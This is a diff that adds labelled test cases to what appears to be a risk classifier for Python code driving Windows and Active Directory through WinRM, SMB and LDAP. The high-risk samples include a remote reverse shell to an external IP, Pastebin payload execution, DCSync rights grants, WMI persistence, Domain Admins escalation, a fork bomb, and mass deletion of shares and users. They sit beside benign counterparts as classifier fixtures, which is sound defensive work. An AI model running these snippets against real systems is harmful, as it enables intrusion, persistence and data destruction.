@@ -7538,6 +7538,181 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             ')))\n',
             S,
         ),
+        # holdout220: Windows servers and Active Directory through pywinrm, smbprotocol and ldap3
+        (
+            'import os, winrm\n'
+            'def remote(host, script):\n'
+            '    return winrm.Session(host, auth=("u", os.environ["PW"]), transport="ntlm").r'
+            'un_ps(script)\n'
+            'for h in ["sql01.corp.local", "sql02.corp.local"]:\n'
+            '    remote(h, "Get-Process sqlservr | Stop-Process -Force; Set-Service MSSQLSERV'
+            'ER -StartupType Disabled")\n',
+            H,
+        ),
+        (
+            'import os, winrm\n'
+            's = winrm.Session("sql01.corp.local", auth=("u", os.environ["PW"]), transport="n'
+            'tlm")\n'
+            'print(s.run_ps("Get-Service MSSQLSERVER | Select-Object Status, StartType").std_'
+            'out.decode())\n',
+            L,
+        ),
+        (
+            'import requests, winrm\n'
+            'payload = requests.get("https://pastebin.com/raw/7hQz2LmX", timeout=10).text\n'
+            's = winrm.Session("https://web01.corp.local:5986/wsman", auth=("u", "p"), transp'
+            'ort="ntlm")\n'
+            's.run_ps(payload)\n',
+            C,
+        ),
+        (
+            'import winrm\n'
+            'ps = r"""\n'
+            "Set-ItemProperty -Path 'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server' "
+            '-Name fDenyTSConnections -Value 0\n'
+            'New-NetFirewallRule -DisplayName "RDP" -Direction Inbound -Protocol TCP -LocalPo'
+            'rt 3389 -RemoteAddress Any -Action Allow\n'
+            '"""\n'
+            'winrm.Session("gw01.corp.local", auth=("u", "p")).run_ps(ps)\n',
+            H,
+        ),
+        (
+            'import winrm\n'
+            'ps = \'New-NetFirewallRule -DisplayName "Web" -Direction Inbound -Protocol TCP -L'
+            "ocalPort 443 -RemoteAddress 10.0.0.0/8 -Action Allow'\n"
+            'winrm.Session("web01.corp.local", auth=("u", "p")).run_ps(ps)\n',
+            L,
+        ),
+        (
+            'import winrm\n'
+            'WMI = r"""\n'
+            '$f = Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Argument'
+            "s @{Name='U'}\n"
+            '$c = Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsume'
+            "r -Arguments @{Name='U';CommandLineTemplate='powershell.exe -nop'}\n"
+            '"""\n'
+            'winrm.Session("app07.corp.local", auth=("u", "p"), transport="kerberos").run_ps('
+            'WMI)\n',
+            H,
+        ),
+        (
+            'import base64, winrm\n'
+            'rs = ("$c=New-Object Net.Sockets.TCPClient(\'45.77.12.201\',8443);$s=$c.GetStream('
+            ');"\n'
+            '      "while(($i=$s.Read($b,0,$b.Length)) -ne 0){$o=(iex $d 2>&1|Out-String)}")\n'
+            'enc = base64.b64encode(rs.encode("utf-16le")).decode()\n'
+            'winrm.Session("app02.corp.local", auth=("u", "p"), transport="ntlm").run_cmd("po'
+            'wershell", ["-nop", "-enc", enc])\n',
+            H,
+        ),
+        (
+            'import base64\n'
+            'token = base64.b64encode(b"user:secret").decode()\n'
+            'print(len(token))\n',
+            S,
+        ),
+        (
+            'import winrm\n'
+            'script = r"""\n'
+            '$acl = Get-Acl $root\n'
+            "foreach ($g in '1131f6aa-9c07-11d1-f79f-00c04fc2dcd2','1131f6ad-9c07-11d1-f79f-0"
+            "0c04fc2dcd2') { $acl.AddAccessRule((New-Object System.DirectoryServices.ActiveDi"
+            "rectoryAccessRule($sid, 'ExtendedRight', 'Allow', [Guid]$g))) }\n"
+            'Set-Acl -AclObject $acl -Path $root\n'
+            '"""\n'
+            'winrm.Session("dc01.corp.local", auth=("u", "p")).run_ps(script)\n',
+            H,
+        ),
+        (
+            'import winrm\n'
+            'BOMB = "while ($true) { Start-Process powershell -ArgumentList \'-w hidden\' }"\n'
+            'winrm.Session("rdsh01.corp.local", auth=("u", "p")).run_ps(BOMB)\n',
+            H,
+        ),
+        (
+            'import winrm\n'
+            'FILL = "$d = Get-PSDrive D; fsutil file createnew D:\\\\Shares\\\\pad.bin $($d.Free '
+            '- 1MB)"\n'
+            'winrm.Session("fs01.corp.local", auth=("u", "p")).run_ps(FILL)\n',
+            H,
+        ),
+        (
+            'import os, smbclient, smbclient.shutil\n'
+            'smbclient.ClientConfig(username="CORP\\\\it", password=os.getenv("PW"))\n'
+            'for entry in smbclient.scandir(r"\\\\fs01.corp.local\\Finance"):\n'
+            '    if entry.is_dir():\n'
+            '        smbclient.shutil.rmtree(entry.path)\n',
+            H,
+        ),
+        (
+            'import smbclient.shutil\n'
+            'smbclient.shutil.rmtree(r"\\\\fs01.corp.local\\deploy\\staging\\builds\\build-1187")\n',
+            M,
+        ),
+        (
+            'import smbclient\n'
+            'inf = r"\\\\corp.local\\SYSVOL\\corp.local\\Policies\\{31B2F340-016D-11D2-945F-00C04FB'
+            '984F9}\\MACHINE\\Microsoft\\Windows NT\\SecEdit\\GptTmpl.inf"\n'
+            'with smbclient.open_file(inf, mode="a", encoding="utf-16") as fh:\n'
+            '    fh.write("[Group Membership]\\r\\n")\n',
+            H,
+        ),
+        (
+            'import smbclient\n'
+            'inf = r"\\\\corp.local\\SYSVOL\\corp.local\\Policies\\{31B2F340-016D-11D2-945F-00C04FB'
+            '984F9}\\GPT.INI"\n'
+            'with smbclient.open_file(inf, mode="r") as fh:\n'
+            '    print(fh.read())\n',
+            S,
+        ),
+        (
+            'from ldap3 import Server, Connection\n'
+            'conn = Connection(Server("dc01.corp.local"), user="corp\\\\helpdesk", password="x"'
+            ', auto_bind=True)\n'
+            'conn.extend.microsoft.modify_password("CN=Administrator,CN=Users,DC=corp,DC=loca'
+            'l", "Temp#2024")\n',
+            H,
+        ),
+        (
+            'from ldap3 import Server, Connection\n'
+            'conn = Connection(Server("dc01.corp.local"), user="corp\\\\helpdesk", password="x"'
+            ', auto_bind=True)\n'
+            'conn.extend.microsoft.modify_password("CN=Jane Doe,OU=Staff,DC=corp,DC=local", "'
+            'Welcome#2024", old_password=None)\n',
+            S,
+        ),
+        (
+            'from ldap3 import Server, Connection\n'
+            'conn = Connection(Server("ldaps://dc01.corp.local"), "CORP\\\\svc", "x", auto_bind'
+            '=True)\n'
+            'conn.search("OU=Users,OU=HQ,DC=corp,DC=local", "(objectClass=user)")\n'
+            'for e in conn.entries:\n'
+            '    conn.delete(e.entry_dn)\n',
+            H,
+        ),
+        (
+            'from ldap3 import Server, Connection\n'
+            'conn = Connection(Server("ldaps://dc01.corp.local"), "CORP\\\\svc", "x", auto_bind'
+            '=True)\n'
+            'conn.delete("CN=old-kiosk-07,OU=Kiosks,DC=corp,DC=local")\n',
+            S,
+        ),
+        (
+            'from ldap3 import Server, Connection\n'
+            'conn = Connection(Server("ldaps://dc01.corp.local"), "CORP\\\\svc", "x", auto_bind'
+            '=True)\n'
+            'conn.extend.microsoft.add_members_to_groups(["CN=tmp,OU=Staff,DC=corp,DC=local"]'
+            ', ["CN=Domain Admins,CN=Users,DC=corp,DC=local"])\n',
+            H,
+        ),
+        (
+            'from ldap3 import Server, Connection\n'
+            'conn = Connection(Server("ldaps://dc01.corp.local"), "CORP\\\\svc", "x", auto_bind'
+            '=True)\n'
+            'conn.extend.microsoft.add_members_to_groups(["CN=Jane,OU=Staff,DC=corp,DC=local"'
+            '], ["CN=VPN Users,OU=Groups,DC=corp,DC=local"])\n',
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
